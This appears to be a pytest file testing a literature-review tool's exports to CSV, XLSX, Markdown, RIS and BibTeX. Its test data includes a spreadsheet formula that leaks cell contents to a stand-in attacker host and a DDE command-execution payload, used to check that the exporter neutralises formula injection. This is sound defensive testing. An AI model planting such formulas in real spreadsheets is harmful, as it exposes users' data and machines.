"""Exports: formula injection neutralised, numbers kept numeric, deterministic workbook bytes, RIS
and BibTeX that round-trip through rispy and bibtexparser."""

from __future__ import annotations

import csv
import zipfile

import bibtexparser
import openpyxl
import pandas as pd
import pytest
import rispy
from hypothesis import given, settings
from hypothesis import strategies as st

from litreview.export import (
    ExportError,
    bibtex_key,
    neutralise_cell,
    records_to_bibtex,
    records_to_ris,
    ris_type,
    write_csv,
    write_markdown,
    write_xlsx,
)
from litreview.schema import BIBLIOGRAPHIC_FIELDS

EVIL_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for full text")'


def _record(**values) -> dict:
    row = dict.fromkeys(BIBLIOGRAPHIC_FIELDS, "")
    row.update({"study_id": "", "record_id": "", "source_sha256": ""})
    row.update(values)
    return row


@pytest.fixture
def records() -> pd.DataFrame:
    return pd.DataFrame(
        [
            _record(
                database="PubMed",
                type="Journal Article",
                title="Hepatic resection versus TACE for neuroendocrine liver metastases",
                authors="Müller, Anna; O'Brien, Seán; Nguyen, T",
                year="2019",
                journal="HPB (Oxford)",
                volume="21",
                issue="4",
                pages="401-409",
                doi="10.1016/j.hpb.2018.08.001",
                pmid="30266488",
                abstract="Background: 50% of patients & more.\n@article{inject, title={x}}",
                keywords="neuroendocrine tumour; liver metastases",
                study_id="S002",
                record_id="0a1b2c3d4e5f-000002",
                source_sha256="ab" * 32,
            ),
            _record(
                database="Embase",
                type="Conference Abstract",
                title="Y-90 radioembolisation {outcomes in 40 patients",
                authors="Smith, J",
                year="2021",
                journal="Ann Oncol",
                doi="10.1016/j.annonc.2021.08.100",
                study_id="S001",
                record_id="0a1b2c3d4e5f-000001",
                source_sha256="cd" * 32,
            ),
            _record(
                type="Journal Article",
                title=EVIL_TITLE,
                authors="Evil, Eve",
                year="2020",
                doi="10.9999/evil.1",
                study_id="S003",
                record_id="0a1b2c3d4e5f-000003",
                source_sha256="ef" * 32,
            ),
        ]
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL_TITLE, "'" + EVIL_TITLE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-0.71", "-0.71"),
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("Resection = best?", "Resection = best?"),
        (-0.71, -0.71),
        (12, 12),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_csv_neutralises_text_and_keeps_numbers(tmp_path):
    df = pd.DataFrame(
        {"study_id": ["S1", "S2"], "title": [EVIL_TITLE, "Plain"], "log_hr": [-0.71, 0.2]}
    )
    path = write_csv(df, tmp_path / "t" / "effects.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["title"] == "'" + EVIL_TITLE
    assert rows[1]["title"] == "Plain"
    assert rows[0]["log_hr"] == "-0.71"
    back = pd.read_csv(path)
    assert pd.api.types.is_float_dtype(back["log_hr"])
    assert back["log_hr"].tolist() == [-0.71, 0.2]
    assert b"\r\n" not in path.read_bytes()


def test_xlsx_neutralises_text_keeps_numbers_and_is_byte_identical(tmp_path):
    effects = pd.DataFrame(
        {
            "study_id": ["S1", "S2"],
            "title": [EVIL_TITLE, "Plain"],
            "log_hr": [-0.71, float("nan")],
            "n": [40, 12],
        }
    )
    counts = pd.DataFrame({"stage": ["identified"], "n": [250]})
    a = write_xlsx({"effects": effects, "prisma": counts}, tmp_path / "a.xlsx")
    b = write_xlsx({"effects": effects, "prisma": counts}, tmp_path / "b.xlsx")
    assert a.read_bytes() == b.read_bytes()
    with zipfile.ZipFile(a) as zf:
        assert {info.date_time for info in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = zf.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core

    wb = openpyxl.load_workbook(a)
    assert wb.sheetnames == ["effects", "prisma"]
    ws = wb["effects"]
    assert [c.value for c in ws[1]] == ["study_id", "title", "log_hr", "n"]
    title = ws["B2"]
    assert title.value == "'" + EVIL_TITLE and title.data_type == "s"
    assert ws["C2"].value == -0.71 and ws["C2"].data_type == "n"
    assert ws["C3"].value is None
    assert ws["D2"].value == 40
    assert wb["prisma"]["B2"].value == 250


HOSTILE_CELLS = [
    "a & b < c > d",
    "  leading and trailing  ",
    "tab\tinside",
    "line\nbreak",
    "carriage\rreturn",
    "\u00a0no-break space first",
    "caf\u00e9 \u2013 \u03b2-blocker \U0001f600",
    EVIL_TITLE,
    "-0.71",
    "@SUM(A1)",
    "bell\x07char",
    "x" * 40000,
    "",
    "]]> <![CDATA[ '\"quoted\"'",
    "not XML \ufffe\uffff",
]


def test_xlsx_text_sheets_are_the_bytes_openpyxl_writes(tmp_path, monkeypatch):
    """Sheets of text are written by litreview's own row writer (openpyxl's per-cell writer
    costs seconds on a large review); the workbook must be byte for byte the one openpyxl
    writes for every cell, hostile text included."""
    from litreview import export

    n = len(HOSTILE_CELLS)
    text = pd.DataFrame(
        {
            "cell": pd.Series(HOSTILE_CELLS, dtype="str"),
            "reversed": pd.Series(HOSTILE_CELLS[::-1], dtype="str"),
            "gaps": pd.Series([None if i % 3 == 0 else f"v{i}" for i in range(n)], dtype="str"),
        }
    )
    errors = pd.DataFrame({"code": pd.Series(["#N/A", "fine"], dtype="str")})
    mixed = pd.DataFrame({"label": pd.Series(["a", "b"], dtype="str"), "n": [1, 2]})
    sheets = {"text": text, "errors": errors, "mixed": mixed, "empty": text.iloc[:0]}

    taken = []
    real = export._text_sheet_rows

    def spy(df):
        rows = real(df)
        taken.append(rows is not None)
        return rows

    monkeypatch.setattr(export, "_text_sheet_rows", spy)
    fast = write_xlsx(sheets, tmp_path / "fast.xlsx")
    slow = write_xlsx(sheets, tmp_path / "slow.xlsx", fast_text=False)
    # the text sheets took the fast path; "#N/A" (an error code to openpyxl) and numbers did not
    assert taken == [True, False, False, True]
    assert fast.read_bytes() == slow.read_bytes()

    ws = openpyxl.load_workbook(fast)["text"]
    cells = [c.value for c in ws["A"][1:]]
    assert cells[0] == "a & b < c > d"
    assert cells[1] == "  leading and trailing  "
    assert cells[4] == "carriage\rreturn"
    assert cells[6].endswith("\U0001f600")
    assert cells[7] == "'" + EVIL_TITLE
    assert cells[10] == "bell\ufffdchar"
    assert len(cells[11]) == 32767 and cells[11].endswith("full text in the CSV table]")
    assert cells[12] is None  # an empty cell
    assert [c.value for c in ws["C"][1:4]] == [None, "v1", "v2"]
    assert cells[14] == "not XML \ufffd\ufffd"  # lxml refuses U+FFFE and U+FFFF


def test_xlsx_rejects_bad_sheet_names(tmp_path):
    df = pd.DataFrame({"a": [1]})
    with pytest.raises(ExportError, match="not allowed by Excel"):
        write_xlsx({"outcomes/modality": df}, tmp_path / "x.xlsx")
    with pytest.raises(ExportError, match="used twice"):
        write_xlsx({"Quality": df, "quality": df}, tmp_path / "x.xlsx")


def test_markdown_escapes_pipes_and_newlines(tmp_path):
    df = pd.DataFrame({"title": ["A | B\nsecond line"], "n": [40]})
    text = write_markdown(df, tmp_path / "t.md").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert len(lines) == 3  # header, separator, one row
    assert "A \\| B second line" in lines[2]
    assert lines[1].rstrip().endswith(":|")  # numeric column right-aligned


def test_markdown_of_a_long_table_shows_its_first_rows_and_names_the_full_table(tmp_path):
    df = pd.DataFrame({"study_id": [f"S{i:03d}" for i in range(1, 6)], "n": [10, 20, 30, 40, 50]})
    text = write_markdown(df, tmp_path / "t.md", max_rows=3, full_table="t.csv").read_text(
        encoding="utf-8"
    )
    lines = text.splitlines()
    assert [line.split("|")[1].strip() for line in lines[2:5]] == ["S001", "S002", "S003"]
    assert lines[5:] == ["", "*The first 3 of 5 rows; every row is in t.csv.*"]
    # at the limit nothing is left out and nothing is said
    whole = write_markdown(df, tmp_path / "w.md", max_rows=5).read_text(encoding="utf-8")
    assert len(whole.splitlines()) == 7 and "S005" in whole and "rows" not in whole


def test_ris_round_trip(records):
    refs = rispy.loads(records_to_ris(records))
    # sorted by study id: S001, S002, S003
    assert [r["title"] for r in refs] == [
        "Y-90 radioembolisation {outcomes in 40 patients",
        "Hepatic resection versus TACE for neuroendocrine liver metastases",
        EVIL_TITLE,
    ]
    assert [r["doi"] for r in refs] == [
        "10.1016/j.annonc.2021.08.100",
        "10.1016/j.hpb.2018.08.001",
        "10.9999/evil.1",
    ]
    assert [r["year"] for r in refs] == ["2021", "2019", "2020"]
    hpb = refs[1]
    assert hpb["authors"] == ["Müller, Anna", "O'Brien, Seán", "Nguyen, T"]
    assert (hpb["start_page"], hpb["end_page"]) == ("401", "409")
    assert hpb["type_of_reference"] == "JOUR"
    assert refs[0]["type_of_reference"] == "CONF"
    assert hpb["accession_number"] == "30266488"
    assert "source_sha256: " + "ab" * 32 in hpb["notes"][0]
    assert "study_id: S002" in hpb["notes"][0]
    assert "\n" not in hpb["abstract"]


def test_bibtex_round_trip(records):
    text = records_to_bibtex(records)
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    entries = library.entries
    assert len(entries) == 3
    fields = [e.fields_dict for e in entries]
    assert fields[1]["title"].value == (
        "Hepatic resection versus TACE for neuroendocrine liver metastases"
    )
    assert fields[2]["title"].value == EVIL_TITLE
    assert [f["doi"].value for f in fields] == [
        "10.1016/j.annonc.2021.08.100",
        "10.1016/j.hpb.2018.08.001",
        "10.9999/evil.1",
    ]
    assert [f["year"].value for f in fields] == ["2021", "2019", "2020"]
    assert fields[1]["author"].value == "Müller, Anna and O'Brien, Seán and Nguyen, T"
    assert fields[1]["pages"].value == "401--409"
    # the unbalanced brace is escaped rather than swallowing the following entries
    assert fields[0]["title"].value == "Y-90 radioembolisation \\{outcomes in 40 patients"
    assert [e.entry_type for e in entries] == ["inproceedings", "article", "article"]
    assert entries[1].key == "Muller2019_0a1b2c3d4e5f-000002"
    assert "source_sha256: " + "ab" * 32 in fields[1]["note"].value


def test_bibtex_key_without_authors():
    assert bibtex_key({"authors": "", "year": "2020", "record_id": "x-1"}) == "Anon2020_x-1"


def test_duplicate_record_ids_are_an_error(records):
    dup = pd.concat([records.iloc[[0]], records.iloc[[0]]])
    with pytest.raises(ExportError, match="record_id must be unique"):
        records_to_bibtex(dup)


def test_missing_title_column_is_an_error():
    with pytest.raises(ExportError, match="'title' column"):
        records_to_ris(pd.DataFrame({"doi": ["10.1/x"]}))


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("JOUR", "JOUR"),
        ("Journal Article", "JOUR"),
        ("Review", "JOUR"),
        ("Conference Abstract", "CONF"),
        ("Book Chapter", "CHAP"),
        ("", "JOUR"),
        (None, "JOUR"),
    ],
)
def test_ris_type(value, code):
    assert ris_type(value) == code


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.text(
            alphabet=st.characters(blacklist_categories=("Cs",), max_codepoint=0x1F64F),
            max_size=15,
        ),
        min_size=1,
        max_size=8,
    )
)
def test_any_text_sheet_is_the_bytes_openpyxl_writes(tmp_path_factory, cells):
    # Any text at all (control characters, formula triggers, white space, any script): the
    # fast rows agree with openpyxl's, or the sheet is left to openpyxl (an error code).
    folder = tmp_path_factory.mktemp("xlsx")
    sheet = {"text": pd.DataFrame({"cell": pd.Series(cells, dtype="str")})}
    fast = write_xlsx(sheet, folder / "fast.xlsx")
    slow = write_xlsx(sheet, folder / "slow.xlsx", fast_text=False)
    assert fast.read_bytes() == slow.read_bytes()
